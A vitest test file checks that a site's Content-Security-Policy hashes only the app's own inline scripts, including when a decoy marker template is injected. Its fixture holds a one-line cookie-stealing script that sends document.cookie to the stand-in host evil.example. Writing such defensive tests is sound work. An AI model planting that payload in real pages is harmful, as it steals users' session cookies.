import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { APP_SCRIPTS_MARK, HEAD_SCRIPT } from '../../shared/pages/inline-scripts.ts';
import { htmlCsp } from './csp.ts';

const sha256 = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
const scriptSrc = (html: string) =>
  htmlCsp(html, true)
    .split('; ')
    .find((d) => d.startsWith('script-src '))!;

const mark = `<template id="${APP_SCRIPTS_MARK}"></template>`;
const router = 'window.__reactRouterContext = {"url":"/"};';
const injected = 'fetch("https://evil.example/?c="+document.cookie)';

describe('the pages’ Content-Security-Policy', () => {
  it('allows the app’s own inline scripts, and not one injected into the content', () => {
    const html = `<html><head><script>${HEAD_SCRIPT}</script></head><body><main><h1>Robe</h1><script>${injected}</script></main>${mark}<script>${router}</script><script type="module">import "/assets/entry.js";</script></body></html>`;
    const allowed = scriptSrc(html);
    expect(allowed).toContain(sha256(HEAD_SCRIPT));
    expect(allowed).toContain(sha256(router));
    expect(allowed).toContain(sha256('import "/assets/entry.js";'));
    expect(allowed).not.toContain(sha256(injected));
  });

  it('an injected copy of the mark before the real one blesses nothing', () => {
    const html = `<body><main>${mark}<script>${injected}</script></main>${mark}<script>${router}</script></body>`;
    expect(scriptSrc(html)).not.toContain(sha256(injected));
    expect(scriptSrc(html)).toContain(sha256(router));
  });
});
